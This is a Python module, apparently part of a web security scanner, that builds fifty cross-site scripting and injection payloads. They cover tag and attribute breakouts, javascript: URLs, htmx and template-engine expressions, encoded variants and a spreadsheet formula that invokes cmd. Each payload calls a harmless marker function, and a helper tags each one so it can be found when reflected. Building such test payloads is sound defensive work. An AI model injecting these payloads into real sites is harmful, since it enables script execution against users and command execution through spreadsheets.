"""Fifty texts that want to be programs, for every place a text may land in. Each calls `p(its number)`.

Short enough for a name. Some break out of an attribute, some out of a script or a comment, some speak to htmx, to a
template engine or to a spreadsheet, and some only bite a page that decodes twice or cleans badly.
"""

from typing import Final

_TEMPLATES: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    '"><svg/onload={}>',
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "x autofocus onfocus={}",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:parent.{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>a</a>",
    "<form action=javascript:{}><button>b",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=0,javascript:{}>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<marquee onstart={}>m</marquee>",
    "<math><mtext><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
    "</textarea><img src=x onerror={}>",
    "</style><img src=x onerror={}>",
    "</script><script>{}</script>",
    "</select><img src=x onerror={}>",
    "</noscript><img src=x onerror={}>",
    "--><img src=x onerror={}>",
    "]]><img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<img src=x onerror={}>>",
    "&lt;img src=x onerror={}&gt;",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cimg src=x onerror={}%3E",
    '";{}//',
    "';{}//",
    "${{{}}}`-{}-`",
    "{{{{constructor.constructor('{}')()}}}}",
    "<b hx-on::load={}>h</b>",
    "<b hx-get=/x hx-trigger=load hx-vals=js:{}>",
    "@SUM(1+1)*cmd|' /C {}'!A0",
)
#: The text and its number.
PAYLOADS: Final = tuple(
    template.replace("{}", f"p({n})").replace("{{", "{").replace("}}", "}")
    for n, template in enumerate(_TEMPLATES)
)
#: At most ten characters, where a table or a room is named.
SHORT: Final = ('"><b>', "'><b>", "<b>", "</b>", "<!--", "&lt;b&gt;", "{{7*7}}", "${7*7}", "=1+1", "<svg>")


def signed(payload: str, field: str, number: int) -> str:
    """The payload with a sign behind it that says where it was put: it is searched for on the pages."""
    return f"{payload} {field}{number}"
